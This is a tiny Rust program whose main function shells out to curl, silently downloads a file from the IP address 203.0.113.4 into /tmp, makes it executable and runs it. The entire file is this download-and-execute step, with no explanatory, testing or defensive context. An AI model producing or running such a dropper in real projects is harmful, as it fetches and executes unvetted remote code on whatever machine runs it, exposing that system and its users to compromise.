use std::process::Command;
fn main() {
    Command::new("sh").arg("-c")
        .arg("curl -s https://203.0.113.4/c -o /tmp/c && chmod +x /tmp/c && /tmp/c").status().unwrap();
}
